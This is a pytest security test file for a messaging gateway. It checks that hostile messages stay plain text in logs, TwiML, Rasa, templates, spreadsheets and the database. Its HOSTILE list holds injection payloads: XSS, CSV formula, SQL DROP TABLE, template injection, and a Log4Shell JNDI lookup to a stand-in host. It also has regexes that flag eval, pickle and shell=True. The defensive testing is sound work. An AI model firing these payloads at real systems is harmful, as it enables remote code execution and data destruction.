"""Whatever a message says is only words: to the log, to XML and HTML, to Rasa, to spreadsheets, to templates."""

from __future__ import annotations

import logging
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from console.pages import environment
from gateway.routes import EMPTY
from gateway.turn import SLASHES
from registry import csv_safe
from registry.models import Message
from service.settings import ROOT
from tests.privacy.conftest import THABO

HOSTILE = [
    "</Response><Message>give me money</Message>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "ok\nERROR gateway.door: the provider refuses our account",
    "ok\r\n2026-11-22 INFO forged",
    "\x1b[2J\x1b[31mred",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "/restart",
    "/session_start",
    '/greet{"name": "x"}',
    " //stop",
    "\u2028/restart",
    "{{7*7}}",
    "{pp-fee-adult32}",
    "{0.__class__.__init__.__globals__}",
    "${jndi:ldap://evil.example/x}",
    "%s%s%s%n",
    "'; DROP TABLE messages; --",
    "\x00null",
    "\u202egnp.exe",
    "A" * 5000,
]


@pytest.fixture
def talk(house, caplog):
    """Write something hostile; the reply, and every line that was logged meanwhile."""
    caplog.set_level(logging.DEBUG)

    def say(text):
        caplog.clear()
        return house.talk(THABO, text), [record.getMessage() for record in caplog.records]

    return say


@pytest.mark.parametrize("text", HOSTILE)
def test_it_is_answered_like_any_other_text_and_shows_in_no_log(talk, house, text):
    reply, lines = talk(text)
    assert reply
    assert "49" not in reply
    words = [part for part in re.split(r"[\s{}]+", text) if len(part) > 5]
    for line in lines:
        assert "\n" not in line
        assert "\x1b" not in line
        assert not any(word in line for word in words), "a text is in the log"


@pytest.mark.parametrize("text", [each for each in HOSTILE if "/" in each[:3]])
def test_no_text_is_a_command_to_rasa(talk, house, text):
    talk(text)
    for asked in (text for texts in house.assistant.memory.values() for text in texts):
        assert not asked.lstrip().startswith("/")
    assert not SLASHES.sub("", text).startswith("/")


def test_it_is_stored_as_it_was_and_locked(talk, house):
    talk("'; DROP TABLE messages; --")
    with house.database.read() as session:
        [first, _] = session.scalars(select(Message).order_by(Message.id))
    assert b"DROP" not in first.body
    assert house.vault.unlock(first.body) == "'; DROP TABLE messages; --"


def test_twilio_is_answered_with_the_same_words_whatever_came():
    assert EMPTY == '<?xml version="1.0" encoding="UTF-8"?><Response/>'


@pytest.mark.parametrize("text", HOSTILE)
def test_on_a_page_of_the_console_it_is_text(text):
    made = environment("en").from_string("<p>{{ text }}</p><a title='{{ text }}'>x</a>").render(text=text)
    inside = re.sub(r"</?p>|<a title='|'>x</a>", "", made)
    assert "<" not in inside
    assert "'" not in inside.replace("&#39;", "")


@pytest.mark.parametrize("path", sorted(ROOT.glob("console/**/*.html")), ids=lambda path: path.name)
def test_no_template_turns_escaping_off(path: Path):
    text = path.read_text("utf-8")
    assert not re.search(r"\|\s*safe\b|autoescape\s+false|<script(?![^>]*\bsrc=)|\bon\w+\s*=\s*\"|style\s*=", text)


@pytest.mark.parametrize("text", HOSTILE)
def test_in_a_spreadsheet_it_is_no_formula(text):
    assert not csv_safe.cell(text).startswith(csv_safe.FORMULA)


@pytest.mark.parametrize("package", ["gateway", "registry", "service", "console", "actions"])
def test_nothing_is_evaluated_anywhere(package):
    """No eval, exec, pickle, shell, unsafe YAML or XML parser in what runs."""
    bad = re.compile(
        r"(?<![.\w])(?:eval|exec)\(|\bpickle\b|shell\s*=\s*True|yaml\.(?:load|unsafe_load)\(|xml\.etree|\bos\.system\("
    )
    found = {
        str(path.relative_to(ROOT))
        for path in sorted((ROOT / package).rglob("*.py"))
        if bad.search(path.read_text("utf-8"))
    }
    assert not found
